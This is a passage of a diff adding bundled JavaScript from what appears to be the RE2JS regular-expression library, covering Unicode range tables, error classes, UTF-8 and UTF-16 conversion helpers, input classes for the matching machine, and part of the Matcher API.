+    Math: () => new UnicodeRangeTable(decodeRanges("ycGDCHHFMMDDDCHHFAB", false)),
+    Uppercase: () => new UnicodeRangeTable(decodeRanges("hDZB7BqBqBBWBCHBCuBCEECDOCDsBCDECBBBDCCDEEGDDECBDDDCCCDFFDEECDDECCGBBCBBCBBCOCBSCDBBCEECkBCEQCJDDBCCFICBEBCBBCCCBEEBCCBCBCEBDCCBDDIDDCBBEFBGLLBnFnFsBCCEEEBBBvBDBCdBCBBECBCWCBDBCGD1BvBBCgBCK0BCDMCBgDCyBlBBq6CqBBDCB5XFBjkCIBCvHvHERRzD0ECGGGC8CCBHBJFBLHBJHBJFBMGCJHBJNBzBBBNSSBPPBEEpLiBiBBOBFsasaBYBn6BvBBCEEBGCHDDLiDCJCCFNNBkBBCGG0oesBCUaCoEMCE8BCLCCDICFFFCBBDSCMOCFCCDOCb9a9advCBi8UZBumBnBBpEjBB8EKBCOBCGBCBBk4ByBB+DVB75CfBhsVfB8BYBvyehBB", false))
+  });
+  static FOLD_SCRIPT = new LazyMap({
+    Common: () => new UnicodeRangeTable(decodeRanges("8cgBgB", false)),
+    Greek: () => new UnicodeRangeTable(decodeRanges("1FwUwU", false)),
+    Inherited: () => new UnicodeRangeTable(decodeRanges("5cgBgBlgHAB", false))
+  });
+};
+var Unicode = class Unicode2 {
+  static MAX_RUNE = 1114111;
+  static RUNE_ERROR = 65533;
+  static isUnsearchable(r) {
+    return r === Unicode2.RUNE_ERROR || r >= Unicode2.MIN_HIGH_SURROGATE && r <= Unicode2.MAX_LOW_SURROGATE;
+  }
+  static MAX_ASCII = 127;
+  static MAX_LATIN1 = 255;
+  static MAX_BMP = 65535;
+  static MIN_FOLD = 65;
+  static MAX_FOLD = 125251;
+  static MIN_HIGH_SURROGATE = 55296;
+  static MAX_HIGH_SURROGATE = 56319;
+  static MIN_LOW_SURROGATE = 56320;
+  static MAX_LOW_SURROGATE = 57343;
+  static MIN_SUPPLEMENTARY_CODE_POINT = 65536;
+  static is32(ranges, r) {
+    let lo = 0;
+    let hi = ranges.length;
+    while (lo < hi) {
+      const m = lo + Math.floor((hi - lo) / 2);
+      const rlo = ranges.getLo(m);
+      const rhi = ranges.getHi(m);
+      if (rlo <= r && r <= rhi) {
+        const stride = ranges.getStride(m);
+        return (r - rlo) % stride === 0;
+      }
+      if (r < rlo) hi = m;
+      else lo = m + 1;
+    }
+    return false;
+  }
+  static is(ranges, r) {
+    if (r <= Unicode2.MAX_LATIN1) {
+      for (let i = 0; i < ranges.length; i++) {
+        if (r > ranges.getHi(i)) continue;
+        const rlo = ranges.getLo(i);
+        if (r < rlo) return false;
+        const stride = ranges.getStride(i);
+        return (r - rlo) % stride === 0;
+      }
+      return false;
+    }
+    return ranges.length > 0 && r >= ranges.getLo(0) && Unicode2.is32(ranges, r);
+  }
+  static isPrint(r) {
+    if (r <= Unicode2.MAX_LATIN1) return r >= 32 && r < Unicode2.MAX_ASCII || r >= 161 && r !== 173;
+    return Unicode2.is(UnicodeTables.Print, r);
+  }
+  static simpleFold(r) {
+    if (UnicodeTables.CASE_ORBIT.has(r)) return UnicodeTables.CASE_ORBIT.get(r);
+    if (r <= Unicode2.MAX_ASCII) {
+      const l = Codepoint.toLowerCase(r);
+      return l !== r ? l : Codepoint.toUpperCase(r);
+    }
+    return r;
+  }
+  static equalsIgnoreCase(r1, r2) {
+    if (r1 === r2) return true;
+    if (r1 < 0 || r2 < 0) return false;
+    if (r1 <= Unicode2.MAX_ASCII && r2 <= Unicode2.MAX_ASCII) {
+      if (65 <= r1 && r1 <= 90) r1 |= 32;
+      if (65 <= r2 && r2 <= 90) r2 |= 32;
+      return r1 === r2;
+    }
+    for (let r = Unicode2.simpleFold(r1); r !== r1; r = Unicode2.simpleFold(r)) if (r === r2) return true;
+    return false;
+  }
+};
+var RE2JSException = class extends Error {
+  /** @param {string} message */
+  constructor(message) {
+    super(message);
+    this.name = "RE2JSException";
+  }
+};
+var RE2JSSyntaxException = class extends RE2JSException {
+  /**
+  * @param {string} error
+  * @param {string|null} [input=null]
+  */
+  constructor(error, input = null) {
+    let message = `error parsing regexp: ${error}`;
+    if (input) message += `: \`${input}\``;
+    super(message);
+    this.name = "RE2JSSyntaxException";
+    this.message = message;
+    this.error = error;
+    this.input = input;
+  }
+  /**
+  * Retrieves the description of the error.
+  * @returns {string}
+  */
+  getDescription() {
+    return this.error;
+  }
+  /**
+  * Retrieves the erroneous regular-expression pattern.
+  * @returns {string|null}
+  */
+  getPattern() {
+    return this.input;
+  }
+};
+var RE2JSCompileException = class extends RE2JSException {
+  /** @param {string} message */
+  constructor(message) {
+    super(message);
+    this.name = "RE2JSCompileException";
+  }
+};
+var RE2JSGroupException = class extends RE2JSException {
+  /** @param {string} message */
+  constructor(message) {
+    super(message);
+    this.name = "RE2JSGroupException";
+  }
+};
+var RE2JSFlagsException = class extends RE2JSException {
+  /** @param {string} message */
+  constructor(message) {
+    super(message);
+    this.name = "RE2JSFlagsException";
+  }
+};
+var RE2JSInternalException = class extends RE2JSException {
+  /** @param {string} message */
+  constructor(message) {
+    super(message);
+    this.name = "RE2JSInternalException";
+  }
+};
+var FAST_PATH_TABLE_SIZE = 256;
+var WORD_RUNE_TABLE = new Uint8Array(FAST_PATH_TABLE_SIZE);
+for (let i = 0; i < FAST_PATH_TABLE_SIZE; i++) WORD_RUNE_TABLE[i] = 97 <= i && i <= 122 || 65 <= i && i <= 90 || 48 <= i && i <= 57 || i === 95 ? 1 : 0;
+var cachedNativeEncoder = null;
+var cachedNativeDecoder = null;
+var Utils = class Utils2 {
+  static METACHARACTERS = "\\.+*?()|[]{}^$";
+  static EMPTY_BEGIN_LINE = 1;
+  static EMPTY_END_LINE = 2;
+  static EMPTY_BEGIN_TEXT = 4;
+  static EMPTY_END_TEXT = 8;
+  static EMPTY_WORD_BOUNDARY = 16;
+  static EMPTY_NO_WORD_BOUNDARY = 32;
+  static EMPTY_ALL = -1;
+  static emptyInts() {
+    return [];
+  }
+  static isString(value) {
+    return typeof value === "string" || Object.prototype.toString.call(value) === "[object String]";
+  }
+  static typeName(value) {
+    if (value === null || typeof value !== "object" && typeof value !== "function") return value === null ? "null" : typeof value;
+    return Object.prototype.toString.call(value).slice(8, -1);
+  }
+  static checkPattern(pattern) {
+    if (!Utils2.isString(pattern)) throw new TypeError(`The pattern must be a string, not ${Utils2.typeName(pattern)} (RE2JS.translateRegExp() converts a RegExp)`);
+  }
+  static checkInput(input) {
+    if (!Utils2.isString(input) && !Utils2.isByteArray(input)) throw new TypeError(`The input must be a string or a byte array (Uint8Array or number[]), not ${Utils2.typeName(input)}`);
+  }
+  static checkFlags(flags) {
+    const known = PublicFlags.MULTILINE | PublicFlags.DOTALL | PublicFlags.CASE_INSENSITIVE | PublicFlags.DISABLE_UNICODE_GROUPS | PublicFlags.LONGEST_MATCH | PublicFlags.LOOKBEHINDS;
+    if (!Number.isInteger(flags) || (flags & ~known) !== 0) throw new RE2JSFlagsException("Flags should only be a combination of MULTILINE, DOTALL, CASE_INSENSITIVE, DISABLE_UNICODE_GROUPS, LONGEST_MATCH, LOOKBEHINDS");
+  }
+  static isByteArray(input) {
+    return Array.isArray(input) || Object.prototype.toString.call(input) === "[object Uint8Array]";
+  }
+  static isalnum(c) {
+    return Codepoint.CODES["0"] <= c && c <= Codepoint.CODES["9"] || Codepoint.CODES["a"] <= c && c <= Codepoint.CODES["z"] || Codepoint.CODES["A"] <= c && c <= Codepoint.CODES["Z"];
+  }
+  static unhex(c) {
+    if (Codepoint.CODES["0"] <= c && c <= Codepoint.CODES["9"]) return c - Codepoint.CODES["0"];
+    if (Codepoint.CODES["a"] <= c && c <= Codepoint.CODES["f"]) return c - Codepoint.CODES["a"] + 10;
+    if (Codepoint.CODES["A"] <= c && c <= Codepoint.CODES["F"]) return c - Codepoint.CODES["A"] + 10;
+    return -1;
+  }
+  static escapeRune(rune) {
+    let out = "";
+    if (Unicode.isPrint(rune)) {
+      if (Utils2.METACHARACTERS.indexOf(String.fromCodePoint(rune)) >= 0) out += "\\";
+      out += String.fromCodePoint(rune);
+    } else switch (rune) {
+      case Codepoint.CODES['"']:
+        out += '\\"';
+        break;
+      case Codepoint.CODES["\\"]:
+        out += "\\\\";
+        break;
+      case Codepoint.CODES["	"]:
+        out += "\\t";
+        break;
+      case Codepoint.CODES["\n"]:
+        out += "\\n";
+        break;
+      case Codepoint.CODES["\r"]:
+        out += "\\r";
+        break;
+      case Codepoint.CODES["\b"]:
+        out += "\\b";
+        break;
+      case Codepoint.CODES["\f"]:
+        out += "\\f";
+        break;
+      default: {
+        let s = rune.toString(16);
+        if (rune < 256) {
+          out += "\\x";
+          if (s.length === 1) out += "0";
+          out += s;
+        } else out += `\\x{${s}}`;
+        break;
+      }
+    }
+    return out;
+  }
+  static stringToRunes(str) {
+    const string = String(str);
+    const runes = [];
+    let i = 0;
+    while (i < string.length) {
+      const cp = string.codePointAt(i);
+      runes.push(cp);
+      i += cp > Unicode.MAX_BMP ? 2 : 1;
+    }
+    return new Int32Array(runes);
+  }
+  static runeToString(r) {
+    return String.fromCodePoint(r);
+  }
+  static isWordRune(r) {
+    return r < FAST_PATH_TABLE_SIZE ? WORD_RUNE_TABLE[r] === 1 : false;
+  }
+  static emptyOpContext(r1, r2) {
+    let op = 0;
+    if (r1 < 0) op |= Utils2.EMPTY_BEGIN_TEXT | Utils2.EMPTY_BEGIN_LINE;
+    if (r1 === 10) op |= Utils2.EMPTY_BEGIN_LINE;
+    if (r2 < 0) op |= Utils2.EMPTY_END_TEXT | Utils2.EMPTY_END_LINE;
+    if (r2 === 10) op |= Utils2.EMPTY_END_LINE;
+    if (Utils2.isWordRune(r1) !== Utils2.isWordRune(r2)) op |= Utils2.EMPTY_WORD_BOUNDARY;
+    else op |= Utils2.EMPTY_NO_WORD_BOUNDARY;
+    return op;
+  }
+  /**
+  * Returns a string that quotes all regular expression metacharacters inside the argument text;
+  * the returned string is a regular expression matching the literal text. For example,
+  * {@code quoteMeta("[foo]").equals("\\[foo\\]")}.
+  * @param {string} str
+  * @returns {string}
+  */
+  static quoteMeta(str) {
+    return str.split("").map((s) => {
+      if (Utils2.METACHARACTERS.indexOf(s) >= 0) return `\\${s}`;
+      return s;
+    }).join("");
+  }
+  static charCount(codePoint) {
+    return codePoint > Unicode.MAX_BMP ? 2 : 1;
+  }
+  /**
+  * High-speed conversion from TypedArrays to standard JS Arrays.
+  * Bypasses the expensive Symbol.iterator overhead of Array.from()
+  */
+  static toArray(typedArray) {
+    const len = typedArray.length;
+    const res = new Array(len);
+    for (let i = 0; i < len; i++) res[i] = typedArray[i];
+    return res;
+  }
+  static stringToUtf8ByteArray(str) {
+    if (globalThis.TextEncoder) {
+      if (!cachedNativeEncoder) cachedNativeEncoder = new TextEncoder();
+      return cachedNativeEncoder.encode(str);
+    } else {
+      let out = [], p = 0;
+      for (let i = 0; i < str.length; i++) {
+        let c = str.charCodeAt(i);
+        if (c < 128) out[p++] = c;
+        else if (c < 2048) {
+          out[p++] = c >> 6 | 192;
+          out[p++] = c & 63 | 128;
+        } else if ((c & 64512) === Unicode.MIN_HIGH_SURROGATE && i + 1 < str.length && (str.charCodeAt(i + 1) & 64512) === Unicode.MIN_LOW_SURROGATE) {
+          c = Unicode.MIN_SUPPLEMENTARY_CODE_POINT + ((c & 1023) << 10) + (str.charCodeAt(++i) & 1023);
+          out[p++] = c >> 18 | 240;
+          out[p++] = c >> 12 & 63 | 128;
+          out[p++] = c >> 6 & 63 | 128;
+          out[p++] = c & 63 | 128;
+        } else {
+          out[p++] = c >> 12 | 224;
+          out[p++] = c >> 6 & 63 | 128;
+          out[p++] = c & 63 | 128;
+        }
+      }
+      return out;
+    }
+  }
+  static utf8ByteArrayToString(bytes) {
+    if (globalThis.TextDecoder) {
+      if (!cachedNativeDecoder) cachedNativeDecoder = new TextDecoder("utf-8");
+      const view = bytes instanceof Uint8Array ? bytes : new Uint8Array(bytes);
+      return cachedNativeDecoder.decode(view);
+    } else {
+      let out = [], pos = 0, c = 0;
+      while (pos < bytes.length) {
+        let c1 = bytes[pos++];
+        if (c1 < 128) out[c++] = String.fromCharCode(c1);
+        else if (c1 > 191 && c1 < 224) {
+          let c2 = bytes[pos++];
+          out[c++] = String.fromCharCode((c1 & 31) << 6 | c2 & 63);
+        } else if (c1 > 239 && c1 < 365) {
+          let c2 = bytes[pos++];
+          let c3 = bytes[pos++];
+          let c4 = bytes[pos++];
+          let u = ((c1 & 7) << 18 | (c2 & 63) << 12 | (c3 & 63) << 6 | c4 & 63) - Unicode.MIN_SUPPLEMENTARY_CODE_POINT;
+          out[c++] = String.fromCharCode(Unicode.MIN_HIGH_SURROGATE + (u >> 10));
+          out[c++] = String.fromCharCode(Unicode.MIN_LOW_SURROGATE + (u & 1023));
+        } else {
+          let c2 = bytes[pos++];
+          let c3 = bytes[pos++];
+          out[c++] = String.fromCharCode((c1 & 15) << 12 | (c2 & 63) << 6 | c3 & 63);
+        }
+      }
+      return out.join("");
+    }
+  }
+};
+var createEnum = (values = [], initNum = 0) => {
+  const enumObject = /* @__PURE__ */ Object.create(null);
+  for (let i = 0; i < values.length; i++) {
+    const val = values[i];
+    const keyVal = initNum + i;
+    enumObject[val] = keyVal;
+    enumObject[keyVal] = val;
+  }
+  return Object.freeze(enumObject);
+};
+var MatcherInputBase = class MatcherInputBase2 {
+  static Encoding = createEnum(["UTF_16", "UTF_8"]);
+  getEncoding() {
+    throw Error("not implemented");
+  }
+  /** @returns {string} */
+  asCharSequence() {
+    throw Error("not implemented");
+  }
+  /** @returns {Uint8Array|number[]|null} */
+  asBytes() {
+    throw Error("not implemented");
+  }
+  /** @returns {number} */
+  length() {
+    throw Error("not implemented");
+  }
+  /**
+  *
+  * @returns {boolean}
+  */
+  isUTF8Encoding() {
+    return this.getEncoding() === MatcherInputBase2.Encoding.UTF_8;
+  }
+  /**
+  *
+  * @returns {boolean}
+  */
+  isUTF16Encoding() {
+    return this.getEncoding() === MatcherInputBase2.Encoding.UTF_16;
+  }
+};
+var Utf8MatcherInput = class extends MatcherInputBase {
+  /** @param {Uint8Array|number[]|null} bytes */
+  constructor(bytes = null) {
+    super();
+    this.bytes = bytes;
+  }
+  getEncoding() {
+    return MatcherInputBase.Encoding.UTF_8;
+  }
+  /**
+  *
+  * @returns {string}
+  */
+  asCharSequence() {
+    return Utils.utf8ByteArrayToString(this.bytes);
+  }
+  /**
+  *
+  * @returns {Uint8Array|number[]|null}
+  */
+  asBytes() {
+    return this.bytes;
+  }
+  /**
+  *
+  * @returns {number}
+  */
+  length() {
+    return this.bytes.length;
+  }
+};
+var Utf16MatcherInput = class extends MatcherInputBase {
+  /** @param {string|null} charSequence */
+  constructor(charSequence = null) {
+    super();
+    this.charSequence = charSequence;
+  }
+  getEncoding() {
+    return MatcherInputBase.Encoding.UTF_16;
+  }
+  /**
+  *
+  * @returns {string}
+  */
+  asCharSequence() {
+    return this.charSequence;
+  }
+  /**
+  *
+  * @returns {number[]}
+  */
+  asBytes() {
+    return Utils.stringToUtf8ByteArray(this.charSequence.toString());
+  }
+  /**
+  *
+  * @returns {number}
+  */
+  length() {
+    return this.charSequence.length;
+  }
+};
+var MatcherInput = class {
+  /**
+  * Return the MatcherInput for UTF_16 encoding.
+  * @returns {Utf16MatcherInput}
+  */
+  static utf16(charSequence) {
+    Utils.checkInput(charSequence);
+    return new Utf16MatcherInput(charSequence);
+  }
+  /**
+  * Return the MatcherInput for UTF_8 encoding.
+  * @returns {Utf8MatcherInput}
+  */
+  static utf8(input) {
+    if (Utils.isByteArray(input)) return new Utf8MatcherInput(input);
+    return new Utf8MatcherInput(Utils.stringToUtf8ByteArray(input));
+  }
+};
+var MachineInputBase = class {
+  static EOF() {
+    return -8;
+  }
+  constructor() {
+    this.start = 0;
+    this.end = 0;
+  }
+  canCheckPrefix() {
+    return true;
+  }
+  endPos() {
+    return this.end - this.start;
+  }
+  hasString() {
+    return false;
+  }
+  hasAnyString() {
+    return false;
+  }
+  prefixLength() {
+    return 0;
+  }
+};
+var MachineUTF8Input = class MachineUTF8Input2 extends MachineInputBase {
+  static RUNE_ERROR_STEP = Unicode.RUNE_ERROR << 3 | 1;
+  constructor(bytes, start = 0, end = bytes.length) {
+    super();
+    this.bytes = bytes;
+    this.start = start;
+    this.end = end;
+  }
+  hasString(prefilter, pos) {
+    const target = prefilter.bytes;
+    if (target.length === 0) return true;
+    const idx = this.indexOf(this.bytes, target, this.start + pos);
+    return idx !== -1 && idx <= this.end - target.length;
+  }
+  hasAnyString(prefilter, pos) {
+    return prefilter.automaton8().searchUTF8(this.bytes, this.start + pos, this.end);
+  }
+  step(pos) {
+    pos += this.start;
+    if (pos >= this.end) return MachineInputBase.EOF();
+    const c = this.bytes[pos] & 255;
+    if (c < 128) return c << 3 | 1;
+    let size;
+    let rune;
+    let lo = 128;
+    let hi = 191;
+    if (c >= 194 && c <= 223) {
+      size = 2;
+      rune = c & 31;
+    } else if (c >= 224 && c <= 239) {
+      size = 3;
+      rune = c & 15;
+      if (c === 224) lo = 160;
+      else if (c === 237) hi = 159;
+    } else if (c >= 240 && c <= 244) {
+      size = 4;
+      rune = c & 7;
+      if (c === 240) lo = 144;
+      else if (c === 244) hi = 143;
+    } else return MachineUTF8Input2.RUNE_ERROR_STEP;
+    if (pos + size > this.end) return MachineUTF8Input2.RUNE_ERROR_STEP;
+    const c1 = this.bytes[pos + 1] & 255;
+    if (c1 < lo || c1 > hi) return MachineUTF8Input2.RUNE_ERROR_STEP;
+    rune = rune << 6 | c1 & 63;
+    if (size > 2) {
+      const c2 = this.bytes[pos + 2] & 255;
+      if ((c2 & 192) !== 128) return MachineUTF8Input2.RUNE_ERROR_STEP;
+      rune = rune << 6 | c2 & 63;
+      if (size > 3) {
+        const c3 = this.bytes[pos + 3] & 255;
+        if ((c3 & 192) !== 128) return MachineUTF8Input2.RUNE_ERROR_STEP;
+        rune = rune << 6 | c3 & 63;
+      }
+    }
+    return rune << 3 | size;
+  }
+  index(re2, pos) {
+    pos += this.start;
+    const i = this.indexOf(this.bytes, re2.prefixUTF8, pos);
+    return i < 0 ? i : i - pos;
+  }
+  context(pos) {
+    pos += this.start;
+    let r1 = -1;
+    if (pos > this.start && pos <= this.end) {
+      let start = pos - 1;
+      r1 = this.bytes[start--];
+      if (r1 >= 128) {
+        let lim = pos - 4;
+        if (lim < this.start) lim = this.start;
+        while (start >= lim && (this.bytes[start] & 192) === 128) start--;
+        if (start < this.start) start = this.start;
+        const r = this.step(start - this.start);
+        r1 = start + (r & 7) === pos ? r >> 3 : Unicode.RUNE_ERROR;
+      }
+    }
+    const r2 = pos < this.end ? this.step(pos - this.start) >> 3 : -1;
+    return Utils.emptyOpContext(r1, r2);
+  }
+  indexOf(source, target, fromIndex = 0) {
+    let targetLength = target.length;
+    if (targetLength === 0) return fromIndex <= this.end ? fromIndex : -1;
+    const firstByte = target[0];
+    let limit = this.end - targetLength;
+    const hasNativeIndexOf = typeof source.indexOf === "function";
+    let i = fromIndex;
+    while (i <= limit) {
+      if (hasNativeIndexOf) {
+        i = source.indexOf(firstByte, i);
+        if (i === -1 || i > limit) return -1;
+      } else {
+        while (i <= limit && source[i] !== firstByte) i++;
+        if (i > limit) return -1;
+      }
+      let match = true;
+      for (let j = 1; j < targetLength; j++) if (source[i + j] !== target[j]) {
+        match = false;
+        break;
+      }
+      if (match) return i;
+      i++;
+    }
+    return -1;
+  }
+  prefixLength(re2) {
+    return re2.prefixUTF8.length;
+  }
+};
+var MachineUTF16Input = class extends MachineInputBase {
+  constructor(charSequence, start = 0, end = charSequence.length) {
+    super();
+    this.charSequence = charSequence;
+    this.start = start;
+    this.end = end;
+  }
+  hasString(prefilter, pos) {
+    const idx = this.charSequence.indexOf(prefilter.str, this.start + pos);
+    return idx !== -1 && idx <= this.end - prefilter.str.length;
+  }
+  hasAnyString(prefilter, pos) {
+    return prefilter.automaton16().searchUTF16(this.charSequence, this.start + pos, this.end);
+  }
+  step(pos) {
+    pos += this.start;
+    if (pos >= this.end) return MachineInputBase.EOF();
+    const c1 = this.charSequence.charCodeAt(pos);
+    if (c1 < Unicode.MIN_HIGH_SURROGATE || c1 > Unicode.MAX_HIGH_SURROGATE || pos + 1 >= this.end) return c1 << 3 | 1;
+    const c2 = this.charSequence.charCodeAt(pos + 1);
+    if (c2 >= Unicode.MIN_LOW_SURROGATE && c2 <= Unicode.MAX_LOW_SURROGATE) return (c1 - Unicode.MIN_HIGH_SURROGATE) * 1024 + (c2 - Unicode.MIN_LOW_SURROGATE) + Unicode.MIN_SUPPLEMENTARY_CODE_POINT << 3 | 2;
+    return c1 << 3 | 1;
+  }
+  index(re2, pos) {
+    pos += this.start;
+    const i = this.charSequence.indexOf(re2.prefix, pos);
+    if (i < 0 || i > this.end - re2.prefix.length) return -1;
+    return i - pos;
+  }
+  context(pos) {
+    pos += this.start;
+    const r1 = pos > this.start && pos <= this.end ? this.charSequence.charCodeAt(pos - 1) : -1;
+    const r2 = pos < this.end ? this.charSequence.charCodeAt(pos) : -1;
+    return Utils.emptyOpContext(r1, r2);
+  }
+  prefixLength(re2) {
+    return re2.prefix.length;
+  }
+};
+var MachineInput = class {
+  static fromUTF8(bytes, start = 0, end = bytes.length) {
+    return new MachineUTF8Input(bytes, start, end);
+  }
+  static fromUTF16(charSequence, start = 0, end = void 0) {
+    Utils.checkInput(charSequence);
+    return new MachineUTF16Input(charSequence, start, end ?? charSequence.length);
+  }
+};
+var Matcher = class Matcher2 {
+  /**
+  * V8 and WebKit have historical hard limits on the number of arguments
+  * that can be passed to a function. We cap replacer arguments to prevent
+  * Call Stack Overflow (DoS) vulnerabilities on massive ASTs.
+  */
+  static MAX_REPLACER_ARGS = 65535;
+  /**
+  * Quotes '\' and '$' in {@code s}, so that the returned string could be used in
+  * {@link #appendReplacement} as a literal replacement of {@code s}.
+  *
+  * @param {string} str the string to be quoted
+  * @param {boolean} [javaMode=false] whether the replacement will be used in javaMode
+  * @returns {string} the quoted string
+  */
+  static quoteReplacement(str, javaMode = false) {
+    if (javaMode) {
+      if (str.indexOf("\\") < 0 && str.indexOf("$") < 0) return str;
+      return str.split("").map((s) => {
+        const c = s.codePointAt(0);
+        if (c === Codepoint.CODES["\\"] || c === Codepoint.CODES["$"]) return `\\${s}`;
+        return s;
+      }).join("");
+    }
+    if (str.indexOf("$") < 0) return str;
+    return str.split("").map((s) => {
+      if (s.codePointAt(0) === Codepoint.CODES["$"]) return "$$";
+      return s;
+    }).join("");
+  }
+  /**
+  *
+  * @param {import('./index.js').RE2JS} pattern
+  * @param {string|number[]|Uint8Array|MatcherInputBase} input
+  */
+  constructor(pattern, input) {
+    if (pattern === null) throw new Error("pattern is null");
+    this.patternInput = pattern;
+    const re2 = this.patternInput.re2();
+    this.patternGroupCount = re2.numberOfCapturingGroups();
+    this.groups = [];
+    this.namedGroups = re2.namedGroups;
+    this.hasNamedGroups = Object.keys(this.namedGroups).length > 0;
+    this.numberOfInstructions = re2.numberOfInstructions();
+    this.lookbehindState = null;
+    if (input instanceof MatcherInputBase) this.resetMatcherInput(input);
+    else if (Utils.isByteArray(input)) this.resetMatcherInput(MatcherInput.utf8(input));
+    else this.resetMatcherInput(MatcherInput.utf16(input));
+  }
+  /**
+  * Returns the {@code RE2JS} associated with this {@code Matcher}.
+  * @returns {import('./index.js').RE2JS}
+  */
+  pattern() {
+    return this.patternInput;
+  }
+  /**
+  * Resets the {@code Matcher}, rewinding input and discarding any match information.
+  *
+  * @returns {Matcher} the {@code Matcher} itself, for chained method calls
+  */
+  reset() {
+    this.matcherInputLength = this.matcherInput.length();
+    this.appendPos = 0;
+    this.hasMatch = false;
+    this.hasGroups = false;
+    this.anchorFlag = 0;
+    return this;
+  }
+  /**
+  * Resets the {@code Matcher} and changes the input.
+  * @param {string|number[]|Uint8Array|MatcherInputBase} input
+  * @returns {Matcher} the {@code Matcher} itself, for chained method calls
+  */
+  resetMatcherInput(input) {
+    if (input === null) throw new Error("input is null");
+    if (!(input instanceof MatcherInputBase)) {
+      if (Utils.isByteArray(input)) input = MatcherInput.utf8(input);
+      else input = MatcherInput.utf16(input);
+    }
+    this.matcherInput = input;
+    if (this.lookbehindState !== null) this.lookbehindState.reset();
+    else this.lookbehindState = this.patternInput.re2().createLookbehindState();
+    this.reset();
+    return this;
+  }
+  /**
+  * Returns the start of the named group of the most recent match, or -1 if the group was not
+  * matched.
+  * @param {string|number} [group=0]
+  * @returns {number}
+  */
+  start(group = 0) {
+    if (typeof group === "string") {
+      const groupInt = this.namedGroups[group];
+      if (!Number.isFinite(groupInt)) throw new RE2JSGroupException(`group '${group}' not found`);
+      group = groupInt;
+    }
+    this.loadGroup(group);
+    return this.groups[2 * group];
+  }
+  /**
+  * Returns the end of the named group of the most recent match, or -1 if the group was not
+  * matched.
+  * @param {string|number} [group=0]
+  * @returns {number}
+  */
+  end(group = 0) {
+    if (typeof group === "string") {
+      const groupInt = this.namedGroups[group];
+      if (!Number.isFinite(groupInt)) throw new RE2JSGroupException(`group '${group}' not found`);
+      group = groupInt;
+    }
+    this.loadGroup(group);
+    return this.groups[2 * group + 1];
+  }
+  /**
+  * Returns the program size of this pattern.
+  *
+  * <p>
+  * Similar to the C++ implementation, the program size is a very approximate measure of a regexp's
+  * "cost". Larger numbers are more expensive than smaller numbers.
+  * </p>
+  *
+  * @returns {number} the program size of this pattern
+  */
+  programSize() {
+    return this.numberOfInstructions;
+  }
+  /**
+  * Returns the named group of the most recent match, or {@code null} if the group was not matched.
+  * @param {string|number} [group=0]
+  * @returns {string|null}
+  */
+  group(group = 0) {
+    if (typeof group === "string") {
+      const groupInt = this.namedGroups[group];
+      if (!Number.isFinite(groupInt)) throw new RE2JSGroupException(`group '${group}' not found`);
+      group = groupInt;
+    }
+    const start = this.start(group);
+    const end = this.end(group);
+    if (start < 0 && end < 0) return null;
+    return this.substring(start, end);
+  }
+  /**
+  * Returns a dictionary map of all named capturing groups and their matched values.
+  * If a group was not matched, its value will be `null`.
+  * @returns {Record<string, string|null>}
+  */
+  getNamedGroups() {
+    if (!this.hasMatch) throw new RE2JSGroupException("perhaps no match attempted");
+    const result = /* @__PURE__ */ Object.create(null);
+    for (const name of Object.keys(this.namedGroups)) result[name] = this.group(name);
+    return result;
+  }
+  /**
+  * Returns the number of subgroups in this pattern.
+  *
+  * @returns {number} the number of subgroups; the overall match (group 0) does not count
+  */
+  groupCount() {
+    return this.patternGroupCount;
+  }
+  /**
+  * Helper: finds subgroup information if needed for group.
+  * @param {number} group
+  * @private
+  */
+  loadGroup(group) {
+    if (!Number.isInteger(group) || group < 0 || group > this.patternGroupCount) throw new RE2JSGroupException(`Group index out of bounds: ${group}`);
+    if (!this.hasMatch) throw new RE2JSGroupException("perhaps no match attempted");
+    if (group === 0 || this.hasGroups) return;
+    const end = this.matcherInputLength;
+    const res = this.patternInput.re2().matchMachineInput(this.matcherInput, this.groups[0], end, this.anchorFlag, 1 + this.patternGroupCount, this.lookbehindState);
+    if (!res[0]) throw new RE2JSGroupException("inconsistency in matching group data");
+    this.groups = res[1];
+    this.hasGroups = true;
+  }
+  /**
+  * Matches the entire input against the pattern (anchored start and end). If there is a match,
+  * {@code matches} sets the match state to describe it.
+  *
+  * @returns {boolean} true if the entire input matches the pattern
+  */
+  matches() {
+    return this.genMatch(0, RE2Flags.ANCHOR_BOTH);
+  }
+  /**
+  * Matches the beginning of input against the pattern (anchored start). If there is a match,
+  * {@code lookingAt} sets the match state to describe it.
+  *
+  * @returns {boolean} true if the beginning of the input matches the pattern
+  */
+  lookingAt() {
+    return this.genMatch(0, RE2Flags.ANCHOR_START);
+  }
+  /**
+  * Matches the input against the pattern (unanchored), starting at a specified position. If there
+  * is a match, {@code find} sets the match state to describe it.
+  *
+  * @param {number|null} [start=null] the input position where the search begins
+  * @returns {boolean} if it finds a match
+  * @throws IndexOutOfBoundsException if start is not a valid input position
+  */
+  find(start = null) {
+    if (start !== null) {
+      if (!Number.isInteger(start) || start < 0 || start > this.matcherInputLength) throw new RE2JSGroupException(`start index out of bounds: ${start}`);
+      this.reset();
+      return this.genMatch(start, 0);
+    }
+    start = 0;
+    if (this.hasMatch) {
+      start = this.groups[1];
+      if (this.groups[0] === this.groups[1]) {
+        const r = (this.matcherInput.isUTF16Encoding() ? MachineInput.fromUTF16(this.matcherInput.asCharSequence(), 0, this.matcherInputLength) : MachineInput.fromUTF8(this.matcherInput.asBytes(), 0, this.matcherInputLength)).step(start);
+        if (r < 0) start++;
+        else start += r & 7;
+      }
+    }
+    return this.genMatch(start, RE2Flags.UNANCHORED);
+  }
+  /**
+  * Helper: does match starting at start, with RE2 anchor flag.
+  * @param {number} startByte
+  * @param {number} anchor
+  * @returns {boolean}
+  * @private
+  */
+  genMatch(startByte, anchor2) {
+    const res = this.patternInput.re2().matchMachineInput(this.matcherInput, startByte, this.matcherInputLength, anchor2, 1, this.lookbehindState);
+    if (!res[0]) {
+      this.hasMatch = false;
+      return false;
+    }
+    this.groups = res[1];
+    this.hasMatch = true;
+    this.hasGroups = this.patternGroupCount === 0;
+    this.anchorFlag = anchor2;
+    return true;
+  }
+  /**
+  * Helper: return substring for [start, end).
+  * @param {number} start
+  * @param {number} end
+  * @returns {string}
+  */
+  substring(start, end) {
+    if (this.matcherInput.isUTF8Encoding()) return Utils.utf8ByteArrayToString(this.matcherInput.asBytes().slice(start, end));
+    return this.matcherInput.asCharSequence().substring(start, end).toString();
+  }
+  /**
+  * Helper for Pattern: return input length.
+  * @returns {number}
+  */
+  inputLength() {
+    return this.matcherInputLength;
+  }
+  /**
+  * Appends to result two strings: the text from the append position up to the beginning of the
